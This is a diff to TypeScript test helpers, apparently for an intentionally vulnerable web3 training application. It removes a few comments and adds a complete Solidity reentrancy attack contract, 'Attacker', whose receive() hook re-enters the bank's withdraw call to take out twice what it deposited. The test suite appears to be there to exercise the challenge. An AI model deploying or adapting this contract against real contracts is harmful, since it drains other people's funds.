@@ -14,7 +14,6 @@ export interface Wallet {
   readonly key: string
 }
 
-/** Makes a call of the test chain; returns its answer. */
 export const onChain = async <Answer>(me: Attacker, call: string, body: object) =>
   (await me.post(`/outside/chain/${call}`, body)).json<Answer>()
 
@@ -27,7 +26,6 @@ export const sendBy =
 
 const tenthOfEther = (10n ** 17n).toString()
 
-/** A customer deposits a tenth of an ether and withdraws it once. */
 export const savesEther: Act = async (me) => {
   const wallet = await openWallet(me)
   await me.post('/rest/web3/walletExploitAddress', { walletAddress: wallet.address })
@@ -38,9 +36,56 @@ export const savesEther: Act = async (me) => {
   ensure([saved, taken, again].join() === 'done,done,reverted', `The bank says ${saved}, ${taken}, ${again}`)
 }
 
-/** A customer takes a few bees from the faucet. */
 export const takesBees: Act = async (me) => {
   const send = sendBy(me, await openWallet(me))
   const { status } = await send(contracts.BeeFaucet, 'withdraw', [10])
   ensure(status === 'done', `The faucet says ${status}`)
 }
+
+/** Withdraws twice the amount that it has deposited, in the Solidity of the test chain. */
+export const reentrantContract = `// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface IBank {
+    function ethdeposit(address to) external payable;
+    function withdraw(uint256 amount) external;
+}
+
+/* Withdraws twice the amount that it has deposited. */
+contract Attacker {
+    IBank public immutable bank;
+    address payable private owner;
+    uint256 public rounds;
+
+    event Drained(uint256 amount);
+
+    modifier onlyOwner() {
+        require(msg.sender == owner, "not yours");
+        _;
+    }
+
+    constructor(address target) {
+        bank = IBank(target);
+        owner = payable(msg.sender);
+    }
+
+    function attack() external payable onlyOwner {
+        require(msg.value >= 0.1 ether, "bring 0.1 ether");
+        bank.ethdeposit{value: 0.1 ether}(address(this));
+        bank.withdraw(0.1 ether);
+        emit Drained(address(this).balance);
+    }
+
+    function collect() external onlyOwner {
+        (bool sent, ) = owner.call{value: address(this).balance}("");
+        require(sent, "stuck");
+    }
+
+    receive() external payable {
+        if (rounds < 1) {
+            rounds++;
+            bank.withdraw(0.1 ether);
+        }
+    }
+}
+`
